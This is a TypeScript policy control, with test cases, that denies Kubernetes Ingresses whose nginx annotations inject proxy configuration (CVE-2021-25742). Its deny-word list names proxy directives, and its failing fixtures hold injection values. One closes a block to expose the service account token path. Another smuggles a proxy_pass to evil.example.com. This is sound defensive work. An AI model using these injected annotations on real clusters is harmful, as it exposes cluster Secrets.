import { defineControl, kinds, lowerAscii, type networkingv1, strings } from "portcullis";

/** An Ingress of the shop, with the annotations that a case is about. */
const ingress = (annotations: { readonly [key: string]: string }): networkingv1.Ingress => ({
  apiVersion: "networking.k8s.io/v1",
  kind: "Ingress",
  metadata: { name: "web", namespace: "shop", annotations },
  spec: {
    ingressClassName: "nginx",
    tls: [{ hosts: ["shop.example.com"], secretName: "shop-tls" }],
    rules: [{ host: "shop.example.com", http: { paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: "web", port: { number: 80 } } } }] } }],
  },
});

export default defineControl({
  title: "Ingresses must not write the proxy's configuration",
  description:
    "Controllers on nginx copy snippets, and the values of some other annotations, into the configuration of a proxy that reads every TLS key and whose token reads Secrets of all namespaces (CVE-2021-25742 and its followers): whoever may write one Ingress then holds the cluster's Secrets.",
  severity: "high",
  frameworks: {
    owasp: { "2022": ["K09"], "2025": ["K06", "K07"] },
  },
  match: kinds("networking.k8s.io/v1/Ingress"),
  parameters: {
    prefixes: strings({ default: ["nginx.ingress.kubernetes.io/", "nginx.org/"], description: "How the keys of annotations begin that the proxy's controller reads." }),
    words: strings({ default: ["load_module", "lua_package", "_by_lua", "proxy_pass", "alias", "root", "serviceaccount", "}"], description: "What their values must not hold, in whatever case." }),
  },
  findings: {
    a: "An annotation holds a snippet of the proxy's configuration",
    b: "An annotation's value holds a word of the proxy's configuration",
  },

  check({ object, parameters, deny }) {
    for (const [key, value] of Object.entries(object.metadata?.annotations ?? {})) {
      if (!parameters.prefixes.some((prefix) => key.startsWith(prefix))) continue;
      if (/-snippets?$/.test(key)) deny(object, ["metadata", "annotations", key], `${key} writes the proxy's configuration`, "a");
      const words = parameters.words.filter((word) => lowerAscii(value).includes(lowerAscii(word)));
      if (words.length > 0) deny(object, ["metadata", "annotations", key], `${key} holds ${words.join(", ")}, which the proxy may read as configuration`, "b");
    }
  },

  remediation: "Remove the annotation, set allow-snippet-annotations to false in the controller's ConfigMap, and use the annotation or the Gateway API field that says the same.",
  pass: [
    { name: "no annotations", object: ingress({}) },
    {
      name: "settings that are no snippets",
      object: ingress({ "nginx.ingress.kubernetes.io/ssl-redirect": "true", "nginx.ingress.kubernetes.io/proxy-body-size": "8m", "nginx.org/client-max-body-size": "8m" }),
    },
    { name: "keys of others", object: ingress({ "example.com/configuration-snippet": "more_set_headers 'X-Team: shop';", "traefik.ingress.kubernetes.io/router.middlewares": "shop-root@kubernetescrd" }) },
    {
      name: "words that are allowed here",
      parameters: { words: ["load_module"], prefixes: ["nginx.ingress.kubernetes.io/"] },
      object: ingress({ "nginx.ingress.kubernetes.io/app-root": "/root", "nginx.org/server-snippets": "load_module x;" }),
    },
  ],
  fail: [
    {
      name: "snippets of both controllers",
      object: ingress({
        "nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers 'X-Frame-Options: DENY';",
        "nginx.ingress.kubernetes.io/server-snippet": "# nothing yet",
        "nginx.org/location-snippets": "add_header X-Team shop;",
      }),
      at: [
        { finding: "a", path: 'metadata.annotations["nginx.ingress.kubernetes.io/configuration-snippet"]' },
        { finding: "a", path: 'metadata.annotations["nginx.ingress.kubernetes.io/server-snippet"]' },
        { finding: "a", path: 'metadata.annotations["nginx.org/location-snippets"]' },
      ],
    },
    {
      name: "a block that is closed early, in annotations that are no snippets",
      object: ingress({
        "nginx.ingress.kubernetes.io/auth-url": "http://auth.shop.svc/#;}\nlocation /token { alias /var/run/secrets/kubernetes.io/serviceaccount/; }",
        "nginx.ingress.kubernetes.io/mirror-target": "https://mirror.example.com/;Proxy_Pass http://evil.example.com",
      }),
      at: [
        { finding: "b", path: 'metadata.annotations["nginx.ingress.kubernetes.io/auth-url"]' },
        { finding: "b", path: 'metadata.annotations["nginx.ingress.kubernetes.io/mirror-target"]' },
      ],
    },
    {
      name: "a snippet that runs Lua, in capitals",
      object: ingress({ "nginx.ingress.kubernetes.io/configuration-snippet": "CONTENT_BY_LUA 'ngx.say(1)';" }),
      at: [
        { finding: "a", path: 'metadata.annotations["nginx.ingress.kubernetes.io/configuration-snippet"]' },
        { finding: "b", path: 'metadata.annotations["nginx.ingress.kubernetes.io/configuration-snippet"]' },
      ],
    },
    {
      name: "a prefix and a word of another controller",
      parameters: { prefixes: ["haproxy.org/"], words: ["LUA-LOAD"] },
      object: ingress({ "haproxy.org/backend-config-snippet": "lua-load /tmp/x.lua" }),
      at: [
        { finding: "a", path: 'metadata.annotations["haproxy.org/backend-config-snippet"]' },
        { finding: "b", path: 'metadata.annotations["haproxy.org/backend-config-snippet"]' },
      ],
    },
  ],
});
